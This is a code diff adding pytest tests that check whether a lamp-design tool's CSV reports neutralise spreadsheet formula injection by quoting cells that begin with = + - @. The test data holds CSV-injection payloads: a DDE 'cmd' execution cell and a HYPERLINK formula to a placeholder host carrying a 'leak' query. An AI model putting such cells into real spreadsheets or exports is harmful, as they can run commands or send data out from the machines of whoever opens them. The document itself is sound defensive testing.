@@ -492,3 +492,107 @@ def test_an_ended_pool_worker_leaves_no_unfinished_report_folder(tmp_path):
         stop_pool(pool, finished=False)
     assert not temp.exists()
     assert list(out.iterdir()) == []
+
+
+# -- issue 32: nothing silently wrong III -------------------------------------------------------
+
+#: text cells a spreadsheet runs as formulas (OWASP, CSV injection)
+INJECTIONS = ("=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?leak", "click")', "+1+cmd", "-2+3+cmd", "@SUM(1+1)*cmd")
+
+
+def _formula_cells(folder: Path) -> list[tuple[str, str]]:
+    """(file, cell) of every CSV cell under ``folder`` that a spreadsheet would run: one
+    beginning with = + - @ tab or CR that is not a number."""
+    import csv
+    import re
+
+    number = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")
+    found = []
+    for path in sorted(folder.rglob("*.csv")):
+        with path.open(encoding="utf-8", newline="") as handle:
+            for row in csv.reader(handle):
+                found += [(path.name, c) for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not number.fullmatch(c)]
+    return found
+
+
+def _hostile_lamp(folder: Path) -> Path:
+    """problems/lamp_catalogue.toml with formula text in the descriptions (names are
+    identifiers: the loader refuses '=' in one) and a copy of the shipped catalogue whose
+    every part number begins with one of the formula characters."""
+    import csv
+    import re
+
+    from counterpoise.catalogue.reader import shipped_catalogue_path
+
+    with shipped_catalogue_path().open(encoding="utf-8", newline="") as handle:
+        rows = list(csv.reader(handle))
+    with (folder / "parts.csv").open("w", encoding="utf-8", newline="") as handle:
+        csv.writer(handle).writerows([rows[0]] + [[INJECTIONS[i % len(INJECTIONS)] + f"#{i}", *r[1:]] for i, r in enumerate(rows[1:])])
+    text = (PROBLEMS / "lamp_catalogue.toml").read_text(encoding="utf-8").replace('file = "shipped"', 'file = "parts.csv"')
+    # the upper spring turned by 180 deg about the elbow (pulley below it, string behind it):
+    # the same lengths at every angle, and negative numbers in the reports
+    text = text.replace('h_2 = { value = "50 mm"', 'h_2 = { value = "-50 mm"')
+    text = re.sub(r'(\[variables\.a_2\]\s*)lower = "100 mm"\s*upper = "250 mm"\s*initial = "150 mm"', r'\1lower = "-250 mm"\nupper = "-100 mm"\ninitial = "-150 mm"', text)
+    assert 'upper = "-100 mm"' in text
+    hostile = iter(INJECTIONS * 20)
+    text = re.sub(r'description = "[^"\n]*"', lambda _: "description = " + __import__("json").dumps(next(hostile)), text)
+    path = folder / "lamp.toml"
+    path.write_text(text, encoding="utf-8")
+    return path
+
+
+def test_no_csv_cell_runs_as_a_spreadsheet_formula(tmp_path, capsys):
+    """Item 5: descriptions and part numbers beginning with = + - @ reached design.csv,
+    springs.csv and build.csv as they were. Every CSV the solve and a study write now holds
+    them behind a single quote; numbers stay numbers (a negative one too); and a part number
+    read back (frames --design) is the catalogue's own."""
+    import csv
+
+    file = _hostile_lamp(tmp_path)
+    code, lines, _ = _main(["solve", str(file), "--out", str(tmp_path / "out")], capsys)
+    assert code == 0, lines
+    folder = tmp_path / "out" / "lamp_catalogue"
+    assert {"design.csv", "springs.csv", "build.csv"} <= {p.name for p in folder.iterdir()}
+    assert _formula_cells(tmp_path / "out") == []
+    with (folder / "design.csv").open(encoding="utf-8", newline="") as handle:
+        design = list(csv.DictReader(handle))
+    parts = {r["name"]: r["value"] for r in design if r["kind"] == "part"}
+    assert parts and all(p.startswith("'") and p[1:].startswith(tuple(s[0] for s in INJECTIONS)) for p in parts.values()), parts
+    assert any(r["description"].startswith("'=") for r in design), design
+    a_2 = next(r for r in design if r["name"] == "a_2")
+    assert float(a_2["value"]) < 0 and float(a_2["lower"]) == -250  # a negative number is written as a number
+    with (folder / "build.csv").open(encoding="utf-8", newline="") as handle:
+        build = [c for r in csv.reader(handle) for c in r]
+    assert any(c.startswith("-") and float(c) < 0 for c in build)
+    code, lines, out = _main(["frames", str(file), "--design", str(folder), "--csv"], capsys)
+    assert code in (0, None) and all(f"{slot}: {number[1:]}" in lines[0] for slot, number in parts.items()), lines
+    assert _formula_cells(tmp_path / "out") == []
+    code, lines, _ = _main(["study", str(file), "--vary", "m_head=400 g:450 g:2", "--jobs", "1", "--no-plot", "--out", str(tmp_path / "study")], capsys)
+    assert code == 0, lines
+    assert _formula_cells(tmp_path / "study") == []
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+cmd", "'+cmd"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("'=x", "''=x"),  # already behind a quote: one more, so the reader gets it back exactly
+        ("-12.5", "-12.5"),  # a number written as text stays a number
+        ("+3", "+3"),
+        ("-1e-05", "-1e-05"),
+        ("plain", "plain"),
+        ("'quoted", "'quoted"),
+        (-12.5, -12.5),
+    ],
+)
+def test_a_formula_cell_gets_a_quote_and_reads_back(value, cell):
+    from counterpoise.report.files import cell_text, spreadsheet_cell
+
+    assert spreadsheet_cell(value) == cell
+    if isinstance(value, str):
+        assert cell_text(cell) == value
